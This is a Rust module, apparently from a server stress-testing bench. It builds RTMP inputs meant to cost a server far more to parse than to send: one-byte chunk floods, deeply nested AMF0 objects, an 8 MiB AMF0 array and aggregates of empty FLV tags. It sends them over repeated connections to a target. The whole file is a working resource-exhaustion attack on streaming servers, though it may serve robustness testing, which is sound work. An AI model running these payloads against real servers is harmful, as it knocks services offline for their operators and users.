//! RTMP bytes that cost more to read than to send.

use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{Shutdown, TcpStream};
use std::time::Duration;

use super::quic::pause;
use super::rtmp::{message, one_chunk_a_message, publish, set_chunk_size, shake_hands};
use super::target::{Abuse, Going, Target};
use crate::error::BenchError;

/// Bytes before a key that the server takes.
const UNPUBLISHED_LEN: usize = 58 << 10;
/// The largest message with a key.
const MESSAGE_LEN: usize = 8 << 20;
/// Message types: AMF0 data and command, aggregate.
const AMF0_DATA: u8 = 18;
const AMF0_COMMAND: u8 = 20;
const AGGREGATE: u8 = 22;
/// Connections whose bytes the server has and has not read, as long as no key is needed: with one, the newest wins.
const PENDING: usize = 16;
/// How long the server may take to read a message to its end.
const READ_MAX: Duration = Duration::from_secs(3);

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Input {
    /// Messages without a byte, in chunks of one byte.
    EmptyMessages,
    /// AMF0 objects in objects in objects.
    NestedAmf0,
    /// With a key: an AMF0 array of 8 MiB.
    StrictArray,
    /// With a key: an aggregate message of tags without a byte.
    EmptyTags,
}

impl Input {
    fn needs_key(self) -> bool {
        matches!(self, Self::StrictArray | Self::EmptyTags)
    }
}

/// See the module.
pub struct StallingRtmp(pub Input);

impl Abuse for StallingRtmp {
    fn key(&self) -> &'static str {
        match self.0 {
            Input::EmptyMessages => "rtmp_empty_messages",
            Input::NestedAmf0 => "rtmp_nested_amf0",
            Input::StrictArray => "rtmp_strict_array",
            Input::EmptyTags => "rtmp_empty_tags",
        }
    }

    fn name(&self) -> &'static str {
        match self.0 {
            Input::EmptyMessages => "RTMP empty messages (12)",
            Input::NestedAmf0 => "RTMP nested AMF0 (12)",
            Input::StrictArray => "RTMP 8 MiB array, with a key (12)",
            Input::EmptyTags => "RTMP empty tags, with a key (12)",
        }
    }

    fn run(&mut self, target: &Target, going: &Going) -> Result<(), BenchError> {
        let (bytes, mut pending) = (bytes(self.0), VecDeque::new());
        for index in (0..usize::from(u8::MAX)).cycle() {
            if !going.on() {
                break;
            }
            let socket = match self.0 {
                input if input.needs_key() => publish(index, target)?,
                _ => shake_hands(index, target),
            };
            let Some(mut socket) = socket else {
                pause();
                continue;
            };
            going.did();
            if send(&mut socket, &bytes, going) {
                let _ = socket.shutdown(Shutdown::Write);
                pending.push_back(socket);
            }
            let pending_max = if self.0.needs_key() { 0 } else { PENDING };
            while pending.len() > pending_max {
                pending.pop_front().into_iter().for_each(|socket| wait_for_end(socket, going));
            }
        }
        Ok(())
    }
}

/// Writes all of it, as fast as it is taken. False when the server closed before.
fn send(socket: &mut TcpStream, bytes: &[u8], going: &Going) -> bool {
    bytes.chunks(64 << 10).all(|piece| going.on() && socket.write_all(piece).is_ok())
}

/// Waits until the server has read everything, so that connections do not pile up unread.
fn wait_for_end(mut socket: TcpStream, going: &Going) {
    let _ = socket.set_read_timeout(Some(READ_MAX));
    let mut sink = [0; 4_096];
    while going.on() {
        match socket.read(&mut sink) {
            Ok(0) => return,
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::Interrupted => {}
            Err(_) => return,
        }
    }
}

fn bytes(input: Input) -> Vec<u8> {
    let mut bytes = Vec::new();
    match input {
        Input::EmptyMessages => {
            bytes = set_chunk_size(1);
            bytes.extend_from_slice(&message(AMF0_DATA, 0, &[]));
            // A chunk without a header of its own: the same message once more (RTMP 1.0 §5.3.1.2.4).
            bytes.resize(UNPUBLISHED_LEN, 0xc0 | 6);
        }
        Input::NestedAmf0 => {
            let mut payload = string("connect");
            payload.extend_from_slice(&[0; 9]);
            while payload.len() < UNPUBLISHED_LEN - 128 {
                // An object whose one property `a` is an object again.
                payload.extend_from_slice(&[3, 0, 1, b'a']);
            }
            bytes.extend_from_slice(&one_chunk_a_message());
            bytes.extend_from_slice(&message(AMF0_COMMAND, 0, &payload));
        }
        Input::StrictArray => {
            let mut payload = string("onMetaData");
            let count = MESSAGE_LEN - payload.len() - 5;
            payload.push(0x0a);
            payload.extend_from_slice(&u32::try_from(count).unwrap_or(u32::MAX).to_be_bytes());
            // null, null, null
            payload.resize(payload.len() + count, 5);
            bytes.extend_from_slice(&one_chunk_a_message());
            bytes.extend_from_slice(&message(AMF0_DATA, 1, &payload));
        }
        Input::EmptyTags => {
            // Type video, no bytes, time and stream 0, then the size of the tag before (FLV E.4.1).
            let tag = [9, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 11];
            let payload = tag.repeat(MESSAGE_LEN / tag.len());
            bytes.extend_from_slice(&one_chunk_a_message());
            bytes.extend_from_slice(&message(AGGREGATE, 1, &payload));
        }
    }
    bytes
}

/// An AMF0 string.
fn string(text: &str) -> Vec<u8> {
    let mut bytes = vec![2];
    bytes.extend_from_slice(&u16::try_from(text.len()).unwrap_or(u16::MAX).to_be_bytes());
    bytes.extend_from_slice(text.as_bytes());
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn inputs_without_a_key_stay_below_what_is_taken_and_those_with_one_are_whole_messages() {
        for input in [Input::EmptyMessages, Input::NestedAmf0] {
            assert!(bytes(input).len() <= UNPUBLISHED_LEN, "{input:?}");
        }
        for input in [Input::StrictArray, Input::EmptyTags] {
            let len = bytes(input).len();
            assert!(len > MESSAGE_LEN - 64 && len <= MESSAGE_LEN + 64, "{input:?}: {len}");
        }
    }
}
